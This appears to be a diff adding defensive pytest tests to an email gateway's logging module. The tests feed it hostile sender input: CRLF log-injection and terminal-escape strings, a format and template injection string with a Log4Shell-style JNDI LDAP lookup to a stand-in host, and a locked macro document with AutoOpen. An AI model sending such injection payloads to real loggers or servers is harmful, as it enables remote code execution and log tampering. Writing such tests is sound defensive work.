@@ -1,10 +1,15 @@
 """The mail log: one line a fact, whatever a stranger wrote, and never an exception."""
 
+import hashlib
 import io
 import json
+from dataclasses import replace
 from datetime import UTC, datetime
 
-from gateway.events import MailLog
+import pytest
+
+from gateway import samples
+from gateway.events import Line, MailLog
 from gateway.message import (
     Action,
     Client,
@@ -20,6 +25,9 @@ from gateway.message import (
     Transaction,
     Verdict,
 )
+from gateway.scan import Limits, examine
+from tests.makers import locks, mail
+from tests.makers.looks import RULES
 
 
 def outcome(**changes: object) -> Outcome:
@@ -100,3 +108,86 @@ def test_every_fact_has_its_line() -> None:
         "stopped",
         "jail",
     ]
+
+
+class Also:
+    """A further receiver."""
+
+    name, lost, waiting = "file", 0, 0
+
+    def __init__(self) -> None:
+        self.lines: list[Line] = []
+
+    def put(self, line: Line) -> None:
+        self.lines.append(line)
+
+
+@pytest.mark.parametrize("format", ["json", "text"])
+def test_further_receivers_get_json_whatever_stderr_gets(format: str) -> None:  # noqa: A002 - the setting's own name
+    stream, also = io.StringIO(), Also()
+    log = MailLog(stream, format=format, level="warning", also=[also])
+    log.started()
+    log.worker_died("timeout", "job 1")
+
+    (line,) = also.lines
+    event = json.loads(line.text)
+    assert (line.level, line.event, line.timestamp) == ("error", "worker-died", event["timestamp"])
+    assert event["detail"] == "job 1"
+    assert (line.text + "\n" == stream.getvalue()) is (format == "json")
+
+
+def test_a_subject_can_be_told_from_another_without_being_told() -> None:
+    stream = io.StringIO()
+    log = MailLog(stream, hash_subjects=True)
+    log.message(outcome())
+    whole = outcome()
+    log.message(replace(whole, report=replace(whole.report, headline=Headline(subject=""))))
+
+    subjects = [json.loads(line)["subject"] for line in stream.getvalue().splitlines()]
+    assert subjects == [f"sha256:{hashlib.sha256(b'Invoice').hexdigest()}", ""]
+
+
+HOSTILE = ("\r\nevent=message", "\x1b]0;title\x07", "\u2028", "\x85", "\udcff", "x" * 2**20)
+"""Line ends, escapes, halves of characters, too much."""
+
+
+@pytest.mark.parametrize("evil", HOSTILE)
+@pytest.mark.parametrize("format", ["json", "text"])
+def test_what_strangers_write_stays_one_bounded_line(evil: str, format: str) -> None:  # noqa: A002 - as above
+    stream = io.StringIO()
+    log = MailLog(stream, format=format)
+    usual = outcome()
+    client = Client(address="192.0.2.1", name=evil, helo=evil)
+    envelope = Envelope(evil, (Recipient(evil),))
+    log.message(replace(usual, transaction=replace(usual.transaction, client=client, envelope=envelope)))
+    log.session_refused(client, evil)
+    log.hop_failed("127.0.0.1:25", evil)
+
+    text = stream.getvalue()
+    assert len(text.splitlines()) == 3
+    assert "\x1b" not in text
+    assert len(text) < 10_000
+    if format == "json":
+        assert all(json.loads(line)["event"] for line in text.split("\n")[:-1])
+
+
+def test_no_template_is_made_of_what_strangers_write() -> None:
+    evil, stream = "%s%n{0.__class__}${jndi:ldap://x}{{7*7}}", io.StringIO()
+    MailLog(stream).session_refused(Client(helo=evil), evil)
+    event = json.loads(stream.getvalue())
+    assert (event["helo"], event["why"]) == (evil, evil)
+
+
+def test_no_password_and_no_text_of_a_message_is_in_its_event() -> None:
+    """The password stands in the message and opens the document in it."""
+    locked = locks.office(samples.docm_autoopen(), "Xy7bQ-secret")
+    parts = [mail.text("Private words.\npassword: Xy7bQ-secret\n"), mail.part(locked, name="invoice.docm")]
+    report = examine(mail.message(parts), rules=RULES, limits=Limits())
+    assert {finding.kind for finding in report.findings} >= {Kind.DECRYPTED, Kind.VBA_AUTOEXEC}
+    assert any("AutoOpen" in finding.excerpt for finding in report.findings)
+
+    stream = io.StringIO()
+    MailLog(stream).message(replace(outcome(), report=report))
+    assert '"decrypted"' in stream.getvalue()
+    for secret in ("Xy7bQ", "Private words", "Sub AutoOpen()"):
+        assert secret not in stream.getvalue()
